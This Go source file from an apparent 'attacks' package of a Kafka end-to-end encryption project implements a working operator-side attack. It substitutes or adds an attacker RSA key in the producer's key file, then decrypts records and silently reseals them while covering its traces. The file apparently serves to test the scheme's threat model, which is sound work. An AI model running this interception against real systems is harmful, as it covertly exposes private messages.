package attacks

import (
	"context"
	"crypto/rand"
	"crypto/rsa"
	"errors"
	"fmt"
	"slices"
	"time"

	"github.com/twmb/franz-go/pkg/kgo"

	"kafka-e2ee/envelope"
)

// reader makes the producer encrypt for the operator, too, and waits for a record that the operator can read. In a format
// that allows for one reader only, it makes the producer encrypt for the operator instead, and encrypts what it has read
// for the pod again, before anyone else sees it.
func reader(ctx context.Context, o *operator, newest stored) ([]Position, error) {
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return nil, fmt.Errorf("making a key: %w", err)
	}
	opener := envelope.NewOpener(envelope.OpenerConfig{})
	if err := opener.SetKeys(key); err != nil {
		return nil, err
	}
	if newest.format() == envelope.FormatEnvelope {
		return o.readAlong(ctx, opener, &key.PublicKey)
	}
	return o.intercept(ctx, opener, &key.PublicKey, newest.format())
}

// readAlong adds the key to the producer's.
func (o *operator) readAlong(ctx context.Context, opener *envelope.Opener, key *rsa.PublicKey) (shared []Position, err error) {
	client, err := o.client(kgo.ConsumeTopics(o.target.Topic), kgo.ConsumeResetOffset(kgo.NewOffset().AtEnd()))
	if err != nil {
		return nil, err
	}
	defer client.Close()
	read, err := o.readWithKey(opener, key, true, func() ([]stored, error) { return poll(ctx, client) })
	o.readings = read
	for _, r := range read {
		shared = append(shared, r.Position)
	}
	return shared, err
}

// intercept puts the key in the place of the producer's.
func (o *operator) intercept(ctx context.Context, opener *envelope.Opener, key *rsa.PublicKey, format envelope.Format) (sealed []Position, err error) {
	sealer, err := o.sealer(format)
	if err != nil {
		return nil, err
	}
	topic, err := o.describeTopic(ctx)
	if err != nil {
		return nil, err
	}
	var partitions []int32
	for _, p := range topic.Partitions {
		partitions = append(partitions, p.Partition)
	}
	h, err := o.hold(ctx, partitions...)
	if err != nil {
		return nil, err
	}
	defer func() { err = errors.Join(err, h.end(ctx)) }()
	if _, err := o.readWithKey(opener, key, false, func() ([]stored, error) { return h.poll(ctx) }); err != nil {
		return nil, err
	}
	if err := h.catchUp(ctx); err != nil {
		return nil, err
	}
	for partition, records := range h.records {
		if !slices.ContainsFunc(records, func(r stored) bool { _, ok := o.open(opener, r); return ok }) {
			continue
		}
		var messages map[int][]byte
		var held []stored
		written, err := h.replace(ctx, partition, func(records []stored) (out []stored, err error) {
			held = slices.Clone(records)
			out, messages, err = o.reseal(records, opener, sealer)
			return out, err
		})
		if err != nil {
			return nil, err
		}
		for i, at := range written {
			if message, ok := messages[i]; ok {
				sealed = append(sealed, at)
				o.readings = append(o.readings, newReading(at, held[i].Position, message))
			}
		}
	}
	return sealed, nil
}

// open decrypts a record with a private key of the operator's own.
func (o *operator) open(opener *envelope.Opener, r stored) (message []byte, ok bool) {
	m, err := opener.Open(nil, o.target.Topic, r.value)
	return m.Plaintext, err == nil
}

// reseal encrypts those records again that the opener opens. It returns all records, and what those held, by index.
func (o *operator) reseal(records []stored, opener *envelope.Opener, sealer *envelope.Sealer) (out []stored, messages map[int][]byte, err error) {
	out, messages = slices.Clone(records), make(map[int][]byte)
	for i, r := range out {
		message, ok := o.open(opener, r)
		if !ok {
			continue
		}
		if out[i].value, err = sealer.Seal(nil, message, r.Partition); err != nil {
			return nil, nil, err
		}
		messages[i] = message
	}
	return out, messages, nil
}

// readWithKey changes the public key's file until a record opens, and puts it back until one does not. It returns what the
// records held that did.
func (o *operator) readWithKey(opener *envelope.Opener, key *rsa.PublicKey, add bool, poll func() ([]stored, error)) (read []Reading, err error) {
	restore, err := o.changeKeyFile(key, add)
	if err != nil {
		return nil, err
	}
	defer func() { err = errors.Join(err, restore()) }() // a second time does no harm
	var last time.Time                                   // of the records that opened
	for {
		records, err := poll()
		if err != nil {
			return nil, err
		}
		for _, r := range records {
			message, ok := o.open(opener, r)
			switch {
			case ok:
				if read = append(read, newReading(r.Position, r.Position, message)); len(read) == 1 {
					if err := restore(); err != nil {
						return nil, err
					}
				}
				if r.at.After(last) {
					last = r.at
				}
			case len(read) > 0 && r.at.After(last): // partitions are not read in the order of time
				return read, nil
			}
		}
	}
}
